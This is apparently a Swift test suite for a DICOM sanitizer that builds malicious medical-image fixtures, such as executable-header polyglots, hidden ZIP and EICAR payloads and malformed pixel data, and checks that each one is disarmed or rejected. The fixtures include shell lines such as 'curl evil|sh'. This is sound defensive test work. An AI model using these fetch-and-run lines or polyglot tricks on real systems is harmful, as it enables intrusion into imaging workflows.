import DICOMCore
import Foundation
import SessionReport
import TestSupport
import XCTest
@testable import Protector

/// One crafted case (or more) for every DICOM line of THREATS.md (1–10), built from pydicom's real
/// files and run through the whole Protector with real libclamav. Each ends `disarmed` (the payload
/// is not in what would be delivered) or `rejected`; never `clean`. Lines 11–17 (file sets, file
/// systems, autorun, BadUSB) are covered by IntakeTests, MediaReaderTests and IngestTests.
final class ThreatTests: XCTestCase {
    typealias F = ThreatFixtures
    let zip = Array("PK\u{3}\u{4}\u{14}\u{0}\u{0}\u{0}payload.exe".utf8)

    private func assertDisarmed(_ outcome: F.Outcome, without payload: [UInt8], codes: [String],
                                file: StaticString = #filePath, line: UInt = #line) throws {
        XCTAssertEqual(outcome.verdict, .disarmed, "\(outcome.protection.findings)", file: file, line: line)
        for code in codes { XCTAssertTrue(outcome.codes.contains(code), "\(code) not in \(outcome.codes)", file: file, line: line) }
        XCTAssertFalse(outcome.delivered.isEmpty, file: file, line: line)
        XCTAssertFalse(outcome.delivered.contains(payload), "the payload is still in the delivered file", file: file, line: line)
        XCTAssertEqual(Array(outcome.delivered.prefix(128)), [UInt8](repeating: 0, count: 128), file: file, line: line)
        // The delivered file is a well-formed rebuild our own reader takes without complaint.
        let reread = try DICOMReader.read(InMemoryByteSource(outcome.delivered))
        XCTAssertNil(reread.trailingBytes, file: file, line: line)
    }

    private func assertRejected(_ outcome: F.Outcome, codes: [String], file: StaticString = #filePath, line: UInt = #line) {
        XCTAssertEqual(outcome.verdict, .rejected, "\(outcome.protection.findings)", file: file, line: line)
        for code in codes { XCTAssertTrue(outcome.codes.contains(code), "\(code) not in \(outcome.codes)", file: file, line: line) }
        XCTAssertTrue(outcome.delivered.isEmpty, file: file, line: line)
    }

    // 1. A program in the preamble; the PE header it points at hides in a private element.
    func testPreamblePrograms() throws {
        var bytes = try F.crafted { file in
            file.dataSet.set(F.element(Tag(0x0009, 0x0010), .LO, F.text("EVIL CORP")))
            file.dataSet.set(F.element(Tag(0x0009, 0x1000), .OB, Array("PE\0\0".utf8) + [UInt8](repeating: 0x90, count: 60)))
        }
        let pe = try XCTUnwrap(bytes.index(of: Array("PE\0\0".utf8)))
        var preamble = [UInt8](repeating: 0, count: 128)
        preamble[0] = 0x4D; preamble[1] = 0x5A
        preamble[0x3C] = UInt8(pe & 0xFF); preamble[0x3D] = UInt8(pe >> 8 & 0xFF); preamble[0x3E] = UInt8(pe >> 16 & 0xFF)
        bytes.replaceSubrange(0..<128, with: preamble)
        let polyglot = try F.protect(bytes)
        try assertDisarmed(polyglot, without: Array("PE\0\0".utf8), codes: ["preamble.executable", "private.removed", "malware.clamav"])
        XCTAssertTrue(polyglot.protection.findings.contains { $0.detail.contains("PEHeaderInPart") && $0.detail.contains("gone from the rebuilt file") })

        for (header, code) in [([0x7F, 0x45, 0x4C, 0x46, 2, 1, 1], "preamble.executable"), ([0xCF, 0xFA, 0xED, 0xFE, 7, 0, 0, 1], "preamble.executable"),
                               (Array("#!/bin/sh\ncurl evil|sh\n".utf8), "preamble.script")] as [([UInt8], String)] {
            var polyglot = try F.original("CT_small.dcm")
            polyglot.replaceSubrange(0..<header.count, with: header)
            try assertDisarmed(try F.protect(polyglot), without: header, codes: [code])
        }
    }

    // 2. A ZIP after the data set, and in Data Set Trailing Padding.
    func testZipPolyglotsAfterTheDataSetAndInTrailingPadding() throws {
        let after = try F.original("CT_small.dcm") + zip + [UInt8](repeating: 0x41, count: 64)
        try assertDisarmed(try F.protect(after), without: zip, codes: ["structure.trailing-data"])
        let padded = try F.crafted { $0.dataSet.set(F.element(Tag.dataSetTrailingPadding, .OB, self.zip + [0])) }
        try assertDisarmed(try F.protect(padded), without: zip, codes: ["structure.trailing-data"])
        let infected = try F.original("CT_small.dcm") + F.eicar
        try assertDisarmed(try F.protect(infected), without: F.eicar, codes: ["structure.trailing-data", "malware.clamav"])
    }

    // 3. Payloads in private, OB and UN values: scanned one by one, removed.
    func testPayloadsInPrivatePublicAndUNValues() throws {
        let privateEICAR = try F.crafted { file in
            file.dataSet.set(F.element(Tag(0x0029, 0x0010), .LO, F.text("ACME 1.0")))
            file.dataSet.set(F.element(Tag(0x0029, 0x1001), .OB, F.eicar))
        }
        let outcome = try F.protect(privateEICAR)
        try assertDisarmed(outcome, without: F.eicar, codes: ["malware.clamav", "private.removed"])
        let malware = try XCTUnwrap(outcome.protection.findings.first { $0.code == .malwareClamAV })
        XCTAssertTrue(malware.detail.contains("Kiosk.Test.EICAR") && malware.detail.contains("(0029,1001)"), malware.detail)

        // An allow-listed creator keeps its block, but not the infected value.
        var keeping = F.policy()
        keeping.keptPrivateCreators = ["ACME 1.0"]
        let kept = try F.protect(privateEICAR, with: F.protector(keeping))
        try assertDisarmed(kept, without: F.eicar, codes: ["malware.clamav", "private.kept"])
        XCTAssertNotNil(try DICOMReader.read(InMemoryByteSource(kept.delivered)).dataSet[Tag(0x0029, 0x0010)], "the creator stays")

        // A public OW value and a UN value (not in the pixel module): removed, the image stays.
        let publicValues = try F.crafted { file in
            file.dataSet.set(F.element(Tag(0x0028, 0x1201), .OW, F.eicar))
            file.dataSet.set(F.element(Tag(0x0018, 0x9004), .UN, [0x7F, 0x45, 0x4C, 0x46, 2, 1, 1, 0] + [UInt8](repeating: 0, count: 56)))
        }
        try assertDisarmed(try F.protect(publicValues), without: F.eicar, codes: ["malware.clamav", "executable.embedded"])

        // Programs in the middle of a value, where no engine signature is anchored.
        var inert = [UInt8](repeating: 0, count: 512)
        inert[0] = 0x4D; inert[1] = 0x5A; inert[0x3C] = 0x80; inert[0x80] = 0x50; inert[0x81] = 0x45
        let midValue = try F.crafted { file in
            file.dataSet.set(F.element(Tag(0x0018, 0x9004), .OB, [UInt8](repeating: 0x11, count: 1000) + inert))
        }
        let found = try F.protect(midValue)
        try assertDisarmed(found, without: inert, codes: ["executable.embedded"])
        XCTAssertTrue(found.protection.findings.contains { $0.detail.contains("PE executable at byte 1000") }, "\(found.protection.findings)")

        // In the image itself: nothing valid remains without it.
        let inPixels = try F.crafted { file in
            guard var pixels = file.dataSet[Tag.pixelData]?.inlineBytes else { return XCTFail("no pixels") }
            pixels.replaceSubrange(1000..<1000 + F.eicar.count, with: F.eicar)
            file.dataSet.set(F.element(Tag.pixelData, .OW, pixels))
        }
        assertRejected(try F.protect(inPixels), codes: ["malware.clamav"])
    }

    private func document(_ sopClass: String = "1.2.840.10008.5.1.4.1.1.104.1", mime: String = "application/pdf",
                          content: [UInt8]) throws -> [UInt8] {
        try F.crafted { file in
            file.dataSet.remove(Tag.pixelData)
            file.dataSet.set(F.element(Tag.sopClassUID, .UI, Array(sopClass.utf8) + (sopClass.utf8.count & 1 == 1 ? [0] : [])))
            var body = content
            if body.count & 1 == 1 { body.append(0) }
            file.dataSet.set(F.element(Tag(0x0042, 0x0011), .OB, body))
            file.dataSet.set(F.element(Tag(0x0042, 0x0012), .LO, F.text(mime)))
        }
    }

    // 4. Encapsulated documents: type must fit, content scanned on its own, policy applies.
    func testEncapsulatedDocuments() throws {
        let pdf = Array("%PDF-1.4\n1 0 obj <<>> endobj\ntrailer <<>>\n%%EOF\n".utf8)
        let clean = try F.protect(try document(content: pdf))
        XCTAssertNotEqual(clean.verdict, .rejected, "\(clean.protection.findings)")
        XCTAssertTrue(clean.delivered.contains(pdf))

        assertRejected(try F.protect(try document(content: pdf + F.eicar)), codes: ["malware.clamav"])
        assertRejected(try F.protect(try document(mime: "text/html", content: pdf)), codes: ["document.type-mismatch"])
        var exe = [UInt8](repeating: 0, count: 128)
        exe[0] = 0x4D; exe[1] = 0x5A; exe[0x3C] = 0x40; exe[0x40] = 0x50; exe[0x41] = 0x45
        assertRejected(try F.protect(try document(content: exe)), codes: ["document.executable"])
        // A document smuggled into a CT image: removed, the CT delivered.
        let smuggled = try F.crafted { $0.dataSet.set(F.element(Tag(0x0042, 0x0011), .OB, pdf + F.eicar)) }
        try assertDisarmed(try F.protect(smuggled), without: F.eicar, codes: ["document.embedded", "malware.clamav"])
        var strict = F.policy()
        strict.documents = .reject
        assertRejected(try F.protect(try document(content: pdf), with: F.protector(strict)), codes: ["document.embedded"])
    }

    // 5. Overlays and icons: checked against their own dimensions; icons by policy.
    func testOverlaysAndIcons() throws {
        let hidden = Array("hidden after the overlay".utf8)
        let overlay = try F.crafted { file in
            file.dataSet.set(F.element(Tag(0x6000, 0x0010), .US, [16, 0]))
            file.dataSet.set(F.element(Tag(0x6000, 0x0011), .US, [16, 0]))
            file.dataSet.set(F.element(Tag(0x6000, 0x0040), .CS, F.text("G")))
            file.dataSet.set(F.element(Tag(0x6000, 0x0100), .US, [1, 0]))
            file.dataSet.set(F.element(Tag(0x6000, 0x3000), .OW, [UInt8](repeating: 0xFF, count: 32) + hidden))
        }
        let cut = try F.protect(overlay)
        try assertDisarmed(cut, without: hidden, codes: ["pixel.excess-data"])
        XCTAssertEqual(try DICOMReader.read(InMemoryByteSource(cut.delivered)).dataSet[Tag(0x6000, 0x3000)]?.inlineBytes?.count, 32)

        let icon = try F.crafted { file in
            var item = DataSet()
            item.set(F.element(Tag(0x0028, 0x0002), .US, [1, 0]))
            item.set(F.element(Tag(0x0028, 0x0004), .CS, F.text("MONOCHROME2")))
            item.set(F.element(Tag(0x0028, 0x0010), .US, [8, 0]))
            item.set(F.element(Tag(0x0028, 0x0011), .US, [9, 0]))
            item.set(F.element(Tag(0x0028, 0x0100), .US, [8, 0]))
            item.set(F.element(Tag(0x0028, 0x0101), .US, [8, 0]))
            item.set(F.element(Tag(0x0028, 0x0102), .US, [7, 0]))
            item.set(F.element(Tag(0x0028, 0x0103), .US, [0, 0]))
            item.set(F.element(Tag.pixelData, .OB, F.eicar + [0, 0, 0, 0]))
            file.dataSet.set(DataElement(tag: Tag(0x0088, 0x0200), vr: .SQ, value: .sequence([Item(dataSet: item, offset: 0)])))
        }
        try assertDisarmed(try F.protect(icon), without: F.eicar, codes: ["structure.removed", "malware.clamav"])
        var keepIcons = F.policy()
        keepIcons.icons = .keep
        let removed = try F.protect(icon, with: F.protector(keepIcons))
        try assertDisarmed(removed, without: F.eicar, codes: ["malware.clamav"])
        XCTAssertNil(try DICOMReader.read(InMemoryByteSource(removed.delivered)).dataSet[Tag(0x0088, 0x0200)], "the infected icon goes whole")
        keepIcons.icons = .reject
        assertRejected(try F.protect(icon, with: F.protector(keepIcons)), codes: ["structure.removed"])
    }

    // 6. A value length beyond the end of the file.
    func testLyingLength() throws {
        var bytes = try F.original("CT_small.dcm")
        // (0008,0008) Image Type's 2-byte length, set to claim more than the file holds.
        let imageType = try XCTUnwrap(bytes.index(of: [0x08, 0x00, 0x08, 0x00] + Array("CS".utf8)))
        bytes[imageType + 6] = 0xFF; bytes[imageType + 7] = 0xFF
        let outcome = try F.protect(Array(bytes.prefix(imageType + 200)))
        XCTAssertEqual(outcome.verdict, .rejected)
        XCTAssertTrue(outcome.codes.contains { $0 == "structure.truncated" || $0 == "structure.length-overflow" }, "\(outcome.codes)")
    }

    // 7. Ten thousand nested undefined-length sequences.
    func testDeepNesting() throws {
        let le16 = { (v: UInt16) in [UInt8(v & 0xFF), UInt8(v >> 8)] }
        var body: [UInt8] = []
        for _ in 0..<10_000 { body += le16(0x0040) + le16(0xA730) + Array("SQ".utf8) + [0, 0, 0xFF, 0xFF, 0xFF, 0xFF] + le16(0xFFFE) + le16(0xE000) + [0xFF, 0xFF, 0xFF, 0xFF] }
        // Appended after the last element, so the nest is part of the data set.
        let bytes = try F.crafted { $0.dataSet.removeAll { $0.tag >= Tag(0x0040, 0x0000) } } + body
        let outcome = try F.protect(bytes)
        XCTAssertNotEqual(outcome.verdict, .clean)
        XCTAssertTrue(outcome.codes.contains("structure.nesting-depth"), "\(outcome.codes)")
        XCTAssertFalse(outcome.delivered.contains(Array(body.prefix(64))))
    }

    // 8. VR and transfer-syntax confusion.
    func testVRAndTransferSyntaxConfusion() throws {
        let rowsAsUL = try F.crafted { $0.dataSet.set(F.element(Tag(0x0028, 0x0010), .UL, [128, 0, 0, 0])) }
        assertRejected(try F.protect(rowsAsUL), codes: ["structure.invalid-vr"])
        let paddingAsUL = try F.crafted { $0.dataSet.set(F.element(Tag(0x0028, 0x0120), .UL, [0, 0, 0, 0x80])) }
        try assertDisarmed(try F.protect(paddingAsUL), without: [0, 0, 0, 0x80, 0x08, 0x00], codes: ["structure.invalid-vr"])
        var strict = F.policy()
        strict.acceptedTransferSyntaxes = [TransferSyntax.explicitVRLittleEndian.uid]
        assertRejected(try F.protect(try F.original("MR_small_implicit.dcm"), with: F.protector(strict)), codes: ["structure.bad-transfer-syntax"])
        // A meta group in implicit VR (CVE-2026-5437 reads it out of bounds).
        var implicitMeta = [UInt8](repeating: 0, count: 128) + Array("DICM".utf8)
        implicitMeta += [0x02, 0x00, 0x10, 0x00, 20, 0, 0, 0] + Array("1.2.840.10008.1.2.1\0".utf8)
        assertRejected(try F.protect(implicitMeta), codes: ["structure.meta-encoding"])
    }

    // 9. Pixel data that lies: excess native bytes, codestreams without markers, offset tables outside.
    func testPixelDataThatLies() throws {
        let excess = try F.crafted { file in
            guard let pixels = file.dataSet[Tag.pixelData]?.inlineBytes else { return XCTFail("no pixels") }
            file.dataSet.set(F.element(Tag.pixelData, .OW, pixels + self.zip + [0]))
        }
        let cut = try F.protect(excess)
        try assertDisarmed(cut, without: zip, codes: ["pixel.excess-data"])
        XCTAssertEqual(try DICOMReader.read(InMemoryByteSource(cut.delivered)).dataSet[Tag.pixelData]?.inlineBytes?.count, 128 * 128 * 2)

        let notJPEG = try F.crafted("JPEG-lossy.dcm") { file in
            guard case let .fragments(table, fragments)? = file.dataSet[Tag.pixelData]?.value else { return XCTFail("not encapsulated") }
            let script = Fragment(bytes: .inline(Array("#!/bin/sh\nexec evil\n".utf8)), offset: 0)
            file.dataSet.set(DataElement(tag: Tag.pixelData, vr: .OB, value: .fragments(offsetTable: table, fragments: [script] + fragments.dropFirst())))
        }
        assertRejected(try F.protect(notJPEG), codes: ["pixel.codestream-invalid"])

        // JPEG-LS that is really a baseline JPEG (another decoder than the syntax promises).
        let notJPEGLS = try F.crafted("MR_small_jpeg_ls_lossless.dcm") { file in
            guard case let .fragments(table, fragments)? = file.dataSet[Tag.pixelData]?.value else { return XCTFail("not encapsulated") }
            let baseline = Fragment(bytes: .inline([0xFF, 0xD8, 0xFF, 0xC0, 0x00, 0x0B, 8, 0, 64, 0, 64, 1, 1, 0x11, 0, 0xFF, 0xD9, 0]), offset: 0)
            file.dataSet.set(DataElement(tag: Tag.pixelData, vr: .OB, value: .fragments(offsetTable: table, fragments: [baseline] + fragments.dropFirst())))
        }
        assertRejected(try F.protect(notJPEGLS), codes: ["pixel.codestream-invalid"])
        // Many frames in one fragment: a decoder would read past it.
        let squeezed = try F.crafted("rtdose_rle.dcm") { file in
            guard case let .fragments(table, fragments)? = file.dataSet[Tag.pixelData]?.value else { return XCTFail("not encapsulated") }
            file.dataSet.set(DataElement(tag: Tag.pixelData, vr: .OB, value: .fragments(offsetTable: table, fragments: Array(fragments.prefix(1)))))
        }
        assertRejected(try F.protect(squeezed), codes: ["pixel.fragment-table"])

        let badTable = try F.crafted("JPEG2000.dcm") { file in
            guard case let .fragments(_, fragments)? = file.dataSet[Tag.pixelData]?.value else { return XCTFail("not encapsulated") }
            let table = Fragment(bytes: .inline([0, 0, 0, 0, 0xF0, 0xFF, 0xFF, 0x7F]), offset: 0)
            file.dataSet.set(DataElement(tag: Tag.pixelData, vr: .OB, value: .fragments(offsetTable: table, fragments: fragments)))
        }
        let emptied = try F.protect(badTable)
        try assertDisarmed(emptied, without: [0xF0, 0xFF, 0xFF, 0x7F], codes: ["pixel.fragment-table"])
        guard case let .fragments(table, _)? = try DICOMReader.read(InMemoryByteSource(emptied.delivered)).dataSet[Tag.pixelData]?.value else {
            return XCTFail("not encapsulated after the rebuild")
        }
        XCTAssertEqual(table.bytes.length, 0)
    }

    // 10. What is delivered is always the rebuild, never the original bytes, and DCMTK reads it.
    func testDeliveredFilesAreRebuildsThatDCMTKReads() throws {
        let dcmdump = try TestSupport.tool("dcmdump")
        let dir = try TestSupport.TemporaryDirectory("threat-rebuilds")
        let cases: [[UInt8]] = [
            try F.original("CT_small.dcm") + zip,
            try F.crafted { $0.dataSet.set(F.element(Tag.dataSetTrailingPadding, .OB, [1, 2, 3, 4])) },
            try F.original("MR_small.dcm"),
        ]
        for (index, bytes) in cases.enumerated() {
            let outcome = try F.protect(bytes)
            XCTAssertNotEqual(outcome.delivered, bytes)
            let path = dir.path("rebuilt-\(index).dcm")
            try Data(outcome.delivered).write(to: URL(fileURLWithPath: path))
            let result = try TestSupport.run(dcmdump, ["-q", "+E", path])
            XCTAssertEqual(result.status, 0, result.stderrText)
        }
    }
}
